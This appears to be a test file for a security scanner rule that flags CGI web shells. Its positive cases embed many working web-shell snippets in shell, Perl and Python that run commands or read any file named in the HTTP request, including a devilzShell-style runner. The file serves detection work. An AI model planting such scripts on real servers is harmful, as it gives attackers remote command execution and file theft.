/**
 * CGI scripts in shell, Perl and Python that run what the request sends are web shells
 * (issue 27: a shell script in cgi-bin evaluating $QUERY_STRING was ranked medium); CGI
 * scripts that only read the request, or hand it to a fixed program as an argument, are not.
 */
import { describe, expect, it } from 'vitest';
import { evaluateChange } from '../../src/findings/change-rules.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const top = (path: string, text: string) =>
  evaluateChange(
    addedFile(path, text, {
      current: fileMeta({ sizeBytes: text.length, mode: 0o755 }),
      currentType: 'script',
    }),
  )[0]!;

// A CGI parser written by hand, as old Perl shells carry it: buffer, pairs, pair, name and
// value, then the hash.
const READ_PARAM = `sub read_param {
$buffer = "$ENV{'QUERY_STRING'}";
@pairs = split(/&/, $buffer);
foreach $pair (@pairs) {
  ($name, $value) = split(/=/, $pair);
  $value =~ s/%([a-fA-F0-9][a-fA-F0-9])/pack("C", hex($1))/eg;
  $param{$name} = $value;
}
}
`;

// devilzShell's parser: the body read with sysread in a sub called as `&init_cgi`, and a
// runner of its own.
const INIT_CGI = `sub init_cgi {
  my (%formlist);
  sysread(STDIN, $_, $ENV{'CONTENT_LENGTH'});
  foreach (split('&', $_)) { my ($name, $value) = split /=/; $formlist{$name} = $value; }
  return %formlist;
}
sub ekse($) { my $cmd = shift; return \`$cmd\`; }
my %_VAR = &init_cgi;
`;

describe('CGI scripts', () => {
  it.each([
    [
      'a shell script evaluating the query',
      '/usr/lib/cgi-bin/status.sh',
      '#!/bin/sh\necho "Content-type: text/plain"\necho\neval "$QUERY_STRING"\n',
    ],
    [
      'a shell script running a command taken from the query',
      '/var/www/cgi-bin/ping',
      '#!/bin/bash\necho "Content-type: text/html"; echo\nCMD=$(echo "$QUERY_STRING" | sed "s/^cmd=//")\n$CMD 2>&1\n',
    ],
    [
      'a shell script piping the query into a shell',
      '/usr/lib/cgi-bin/x.cgi',
      '#!/bin/sh\nprintf "Content-type: text/plain\\n\\n"\necho "${QUERY_STRING#c=}" | sh\n',
    ],
    [
      'a Perl CGI opening a pipe on a parameter',
      '/usr/lib/cgi-bin/cmd.pl',
      '#!/usr/bin/perl\n%FORM = parse($ENV{\'QUERY_STRING\'});\n$cmd = $FORM{\'cmd\'};\nprint "Content-Type: text/html\\r\\n\\r\\n";\nopen(CMD, "($cmd) 2>&1 |");\nprint while <CMD>;\n',
    ],
    [
      'a Perl CGI saved as .php, running backticks on a parameter',
      '/opt/x.php',
      "#!/usr/bin/perl\nuse CGI;\nmy $c = CGI::param('command');\nprint `$c`;\n",
    ],
    [
      'a Python CGI importing cgi beside other modules, handing a field to getoutput',
      '/opt/collected/webshell.py',
      'import subprocess, cgi\n\nform = cgi.FieldStorage()\ncommand = form.getvalue("cmd")\noutput = subprocess.getoutput(command)\nprint("<pre>" + output + "</pre>")',
    ],
    [
      'a Perl CGI file browser listing and opening any path the query names',
      '/opt/browse.pl',
      '#!/usr/bin/perl\n%FORM = parse_parameters($ENV{\'QUERY_STRING\'});\n$path = $FORM{\'path\'};\nif (-f $path) { print "Content-Type: application/octet-stream\\r\\n\\r\\n"; open(FILE, "< $path"); print while <FILE>; exit; }\nopendir(DIR, $path) || print "Could not open directory";\nforeach (sort(readdir(DIR))) { print "$_\\n"; }\n',
    ],
    [
      'a Python CGI file browser',
      '/usr/lib/cgi-bin/files.py',
      "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\np = form.getvalue('p', '/')\nprint('Content-type: text/plain\\n')\nif os.path.isfile(p):\n    print(open(p).read())\nelse:\n    print('\\n'.join(os.listdir(p)))\n",
    ],
    [
      'a Perl CGI parsing the query by hand into a hash, opening a pipe on two of its values',
      '/opt/pshell.pl',
      `#!/usr/bin/perl
print "Content-type: text/html\n\n";
&read_param();
open(FILEHANDLE, "cd $param{dir}&&$param{cmd}|");
while ($line=<FILEHANDLE>){print "$line";};
${READ_PARAM}`,
    ],
    [
      'a Python CGI handing a form field to popen',
      '/srv/www/cgi-bin/run.py',
      "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('c')\nprint('Content-type: text/plain\\n')\nprint(os.popen(cmd).read())\n",
    ],
    [
      'a Python script reading QUERY_STRING into subprocess with a shell',
      '/usr/lib/cgi-bin/q',
      "#!/usr/bin/env python3\nimport os, subprocess\nq = os.environ['QUERY_STRING']\nprint(subprocess.check_output(q, shell=True))\n",
    ],
    [
      'a Perl CGI opening a pipe whose handle is a quoted name',
      '/usr/lib/cgi-bin/shell.cgi',
      '#!/usr/bin/perl\nuse CGI qw(:standard);\n$command = param(\'command\');\n$command = \'ls -l\' unless $command;\nopen ("COMH", "$command |");\nprint while <COMH>;\n',
    ],
    [
      'a Python CGI reading the query through a function of its own',
      '/var/www/cgi-bin/l.py',
      "import os\ndef get(name):\n    q_str = os.environ['QUERY_STRING']\n    for q in q_str.split('&'):\n        if q.split('=')[0] == name:\n            return q.split('=')[1]\n\ncmd = get('cmd')\nprint('Content-type: text/html\\n')\nprint(os.popen(cmd).read())\n",
    ],
    [
      'a Python CGI whose helper reads the form it holds',
      '/var/www/cgi-bin/spy.py',
      "#!/usr/bin/python\nimport cgi, subprocess\nform = cgi.FieldStorage()\ndef getvalue(key):\n    if key in form:\n        return form.getvalue(key)\n    return ''\n\nshell_cmd = getvalue('command').strip()\np = subprocess.Popen(shell_cmd, shell=True, stdout=subprocess.PIPE)\n",
    ],
    [
      'a Python CGI handing a form field to a function of its own that runs its parameter',
      '/var/www/cgi-bin/a.py',
      "#!/usr/bin/python\nimport cgi, os\ndef ExecuteCommandCode(cmdPath, command):\n    cmd = [cmdPath, '-c', '%s' % command]\n    i, o, e = os.popen3(cmd)\n    return o.read()\n\nform = cgi.FieldStorage()\nz1 = form.getvalue('z1')\nz2 = form.getvalue('z2')\nprint(ExecuteCommandCode(z1, z2))\n",
    ],
    [
      'a Perl CGI handing a parameter to a sub of its own that opens a pipe on it',
      '/usr/lib/cgi-bin/r.cgi',
      '#!/usr/bin/perl\nuse CGI;\nsub run_it {\n  my ($c) = @_;\n  open(my $p, "$c 2>&1 |");\n  print while <$p>;\n}\nmy $q = CGI->new;\nrun_it($q->param(\'c\'));\n',
    ],
    [
      'a Perl CGI whose parser sub reads the body with sysread and is called as &init_cgi',
      '/opt/collected/devil.cgi',
      `#!/usr/bin/perl
${INIT_CGI}print "Content-type: text/html\n\n";
print &ekse($_VAR{'cmd'});
`,
    ],
  ])('calls %s a web shell', (_, path, text) => {
    expect(top(path, text)).toMatchObject({
      rule: 'web-shell',
      severity: 'critical',
      reason: expect.stringMatching(/CGI script/),
    });
  });

  it.each([
    [
      'a shell CGI that parses the query and prints it',
      '/usr/lib/cgi-bin/echo.sh',
      '#!/bin/sh\necho "Content-type: text/plain"; echo\nNAME=$(echo "$QUERY_STRING" | sed "s/name=//")\necho "Hello $NAME"\nuptime\n',
    ],
    [
      'a Perl CGI running a fixed program with a parameter as its argument',
      '/usr/lib/cgi-bin/look.pl',
      "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $host = $q->param('host');\nsystem('/usr/bin/host', $host);\nopen(my $fh, '<', '/etc/motd');\neval { lookup($q->param('name')) };\n",
    ],
    [
      'a Python CGI running a fixed program on a form field',
      '/usr/lib/cgi-bin/dig.py',
      "#!/usr/bin/python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nname = form.getvalue('n')\nsubprocess.run(['dig', name])\n",
    ],
    [
      'a Perl CGI parsing the query by hand, running a fixed program on a value',
      '/usr/lib/cgi-bin/host.pl',
      `#!/usr/bin/perl
print "Content-type: text/plain\n\n";
&read_param();
system("/usr/bin/host", $param{host});
open(LOG, ">>/var/log/host.log");
${READ_PARAM}`,
    ],
    [
      'a Perl CGI download script opening the file the visitor picks in a folder it lists itself',
      '/usr/lib/cgi-bin/get.pl',
      "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $f = $q->param('f');\nopendir(my $d, '/srv/files');\nmy @all = readdir($d);\nopen(my $fh, '<', \"/srv/files/$f\");\nprint $q->header('application/octet-stream');\nprint while <$fh>;\n",
    ],
    [
      'a Python CGI listing a folder the visitor names and opening a fixed file',
      '/usr/lib/cgi-bin/album.py',
      "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\nalbum = form.getvalue('a')\nprint('Content-type: text/html\\n')\nprint(open('/srv/header.html').read())\nfor name in os.listdir(os.path.join('/srv/albums', album)):\n    print(name)\n",
    ],
    [
      'a shell script outside any web place that reads no request',
      '/usr/local/bin/backup.sh',
      '#!/bin/sh\nCMD="tar czf /backup.tgz /etc"\neval "$CMD"\n',
    ],
    [
      'a Python CGI reading the query through a function of its own, for a fixed program',
      '/var/www/cgi-bin/lookup.py',
      "import os, subprocess\ndef get(name):\n    q_str = os.environ['QUERY_STRING']\n    for q in q_str.split('&'):\n        if q.split('=')[0] == name:\n            return q.split('=')[1]\n\nhost = get('host')\nprint('Content-type: text/plain\\n')\nsubprocess.run(['host', host])\nprint(os.popen('uptime').read())\n",
    ],
    [
      'a Python CGI whose own runner is called with fixed commands only',
      '/var/www/cgi-bin/stats.py',
      "#!/usr/bin/python3\nimport cgi, os\ndef run(command):\n    return os.popen(command).read()\n\nform = cgi.FieldStorage()\nname = form.getvalue('name')\nprint('Content-type: text/plain\\n')\nprint(name, run('uptime'), run('df -h'))\n",
    ],
    [
      'a Perl CGI whose parser sub is called as &init_cgi, running fixed commands only',
      '/usr/lib/cgi-bin/uptime.cgi',
      `#!/usr/bin/perl
${INIT_CGI}print "Content-type: text/html\n\n";
print "Hello $_VAR{'name'}: ", &ekse('uptime');
`,
    ],
  ])('does not call %s a web shell', (_, path, text) => {
    expect(top(path, text).severity).not.toMatch(/high|critical/);
  });
});
